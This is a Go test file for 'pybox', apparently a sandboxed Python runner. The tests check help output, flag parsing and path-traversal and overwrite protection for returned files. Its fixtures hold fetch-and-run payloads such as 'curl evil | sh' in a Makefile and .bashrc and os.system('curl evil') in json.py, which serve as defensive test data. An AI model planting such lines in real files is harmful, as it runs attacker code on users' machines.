package main

import (
	"crypto/sha256"
	"encoding/hex"
	"io"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"pybox/shared/wire"
)

// capture runs f with stdout and stderr going to a pipe and returns what
// they got.
func capture(t *testing.T, f func() int) (string, int) {
	t.Helper()
	r, w, err := os.Pipe()
	if err != nil {
		t.Fatal(err)
	}
	oldOut, oldErr := os.Stdout, os.Stderr
	os.Stdout, os.Stderr = w, w
	out := make(chan string)
	go func() {
		b, _ := io.ReadAll(r)
		out <- string(b)
	}()
	code := f()
	os.Stdout, os.Stderr = oldOut, oldErr
	w.Close()
	return <-out, code
}

func TestHelpEverywhere(t *testing.T) {
	all := map[string]func([]string) int{}
	for n, c := range commands {
		all[n] = c.run
	}
	for n, c := range vmCommands {
		if !c.hidden {
			all["vm "+n] = c.run
		}
	}
	for name, run := range all {
		for _, h := range []string{"--help", "-h"} {
			out, code := capture(t, func() int { return run([]string{h}) })
			if code != exitOK || !strings.Contains(out, "usage: pybox "+strings.Fields(name)[0]) {
				t.Errorf("pybox %s %s: exit %d, output %q", name, h, code, out)
			}
		}
	}
	if out, code := capture(t, func() int { return dispatch([]string{"--help"}) }); code != exitOK || !strings.Contains(out, "vm") {
		t.Errorf("pybox --help: %d %q", code, out)
	}
}

func TestUnknownCommand(t *testing.T) {
	for _, args := range [][]string{{"frobnicate"}, {"vm", "frobnicate"}, {}, {"vm"}} {
		out, code := capture(t, func() int { return dispatch(args) })
		if code != exitUsage || !strings.Contains(out, "usage:") {
			t.Errorf("pybox %v: exit %d, output %q", args, code, out)
		}
	}
}

func TestBadFlag(t *testing.T) {
	out, code := capture(t, func() int { return dispatch([]string{"vm", "status", "--nope"}) })
	if code != exitUsage || !strings.Contains(out, "nope") {
		t.Errorf("exit %d, output %q", code, out)
	}
}

func TestParseInterleaved(t *testing.T) {
	fs := flags("x", "", "")
	j := fs.Bool("json", false, "")
	n := fs.Int("n", 0, "")
	pos, _, err := parse(fs, []string{"a.py", "--json", "-n", "3", "b"})
	if err != nil || !*j || *n != 3 || !slices.Equal(pos, []string{"a.py", "b"}) {
		t.Fatalf("pos %q json %v n %d err %v", pos, *j, *n, err)
	}
	fs = flags("x", "", "")
	j = fs.Bool("json", false, "")
	pos, _, err = parse(fs, []string{"--", "--json", "-"})
	if err != nil || *j || !slices.Equal(pos, []string{"--json", "-"}) {
		t.Fatalf("after --: pos %q json %v err %v", pos, *j, err)
	}
}

func TestParseRun(t *testing.T) {
	dir := t.TempDir()
	script := filepath.Join(dir, "s.py")
	os.WriteFile(script, []byte("print(open('/tmp/input/data.csv').read())"), 0o600)
	data := filepath.Join(dir, "data.csv")
	os.WriteFile(data, []byte("a,b\n"), 0o600)
	ra, code, ok := parseRun([]string{"--timeout", "5", script, "--file", data, "--out", dir, "--json"})
	if !ok {
		t.Fatalf("parseRun failed: %d", code)
	}
	r := ra.run
	if r.TimeoutSeconds != 5 || r.Image != "stdlib" || !r.ReturnFiles || !ra.asJSON || len(r.Files) != 1 || r.Files[0].Name != "data.csv" {
		t.Errorf("run %+v", r)
	}
	if len(r.RunID) != 16 {
		t.Errorf("run id %q", r.RunID)
	}
	for _, bad := range [][]string{
		{"--timeout", "31", script},
		{"--timeout", "0", script},
		{"--max-output-bytes", "9000", script},
		{"--image", "Bad", script},
		{script, script},
		{},
	} {
		_, code := capture(t, func() int { _, c, _ := parseRun(bad); return c })
		if code != exitUsage {
			t.Errorf("parseRun(%q): exit %d, want %d", bad, code, exitUsage)
		}
	}
}

// result is a run's result with these files, each with its digest in
// the receipt (except tampered.txt, whose digest is wrong).
func result(runID string, files ...wire.OutputFile) *wire.Result {
	res := &wire.Result{Files: files}
	res.Receipt.RunID = runID
	for _, f := range files {
		sum := sha256.Sum256(f.Content)
		d := hex.EncodeToString(sum[:])
		if f.Name == "tampered.txt" {
			d = strings.Repeat("0", 64)
		}
		res.Receipt.Output.Returned = append(res.Receipt.Output.Returned, wire.FileDigest{Name: f.Name, SHA256: d})
	}
	return res
}

func TestWriteOutputsStaysInside(t *testing.T) {
	parent := t.TempDir()
	out := filepath.Join(parent, "out")
	res := result("r1",
		wire.OutputFile{Name: "ok.txt", Content: []byte("fine")},
		wire.OutputFile{Name: "../escape.txt", Content: []byte("x")},
		wire.OutputFile{Name: "/etc/passwd", Content: []byte("x")},
		wire.OutputFile{Name: "..", Content: []byte("x")},
		wire.OutputFile{Name: "tampered.txt", Content: []byte("not what the receipt says")},
	)
	notes := writeOutputs(out, res, false)
	if b, err := os.ReadFile(filepath.Join(out, "r1", "ok.txt")); err != nil || string(b) != "fine" {
		t.Errorf("ok.txt: %q %v", b, err)
	}
	for _, p := range []string{filepath.Join(parent, "escape.txt"), filepath.Join(out, "escape.txt"), filepath.Join(out, "r1", "tampered.txt")} {
		if _, err := os.Lstat(p); err == nil {
			t.Errorf("%s was written", p)
		}
	}
	if n := strings.Count(strings.Join(notes, "\n"), "not written"); n != 4 {
		t.Errorf("%d refused, want 4: %q", n, notes)
	}
	// The run's directory exists already (a second write of the same
	// run, or a link planted there): nothing is written at all.
	os.RemoveAll(filepath.Join(out, "r2"))
	os.Symlink(parent, filepath.Join(out, "r2"))
	notes = writeOutputs(out, result("r2", wire.OutputFile{Name: "ok.txt", Content: []byte("again")}), false)
	if _, err := os.Lstat(filepath.Join(parent, "ok.txt")); err == nil || !strings.Contains(strings.Join(notes, ""), "nothing written") {
		t.Errorf("wrote through an existing run directory: %q", notes)
	}
}

// --out in a project directory: the program's Makefile, .bashrc and
// json.py overwrite nothing and shadow nothing there; they land in the
// run's own directory, and the dot-file only when asked for.
func TestWriteOutputsNeverOverwrites(t *testing.T) {
	project := t.TempDir()
	os.WriteFile(filepath.Join(project, "Makefile"), []byte("all:\n\ttrue\n"), 0o644)
	files := []wire.OutputFile{
		{Name: "Makefile", Content: []byte("all:\n\tcurl evil | sh\n")},
		{Name: ".bashrc", Content: []byte("curl evil | sh\n")},
		{Name: "json.py", Content: []byte("import os; os.system('curl evil')\n")},
	}
	notes := writeOutputs(project, result("run1", files...), false)
	if b, _ := os.ReadFile(filepath.Join(project, "Makefile")); string(b) != "all:\n\ttrue\n" {
		t.Errorf("the project's Makefile became %q", b)
	}
	for _, name := range []string{".bashrc", "json.py", filepath.Join("run1", ".bashrc")} {
		if _, err := os.Lstat(filepath.Join(project, name)); err == nil {
			t.Errorf("%s was written", name)
		}
	}
	for _, name := range []string{"Makefile", "json.py"} {
		if _, err := os.Stat(filepath.Join(project, "run1", name)); err != nil {
			t.Errorf("%s is not in the run's directory: %v", name, err)
		}
	}
	if !strings.Contains(strings.Join(notes, "\n"), "not written: .bashrc: its name starts with a dot") {
		t.Errorf("notes %q", notes)
	}
	writeOutputs(project, result("run2", files...), true)
	if _, err := os.Stat(filepath.Join(project, "run2", ".bashrc")); err != nil {
		t.Errorf("with --out-dotfiles .bashrc was not written: %v", err)
	}
}
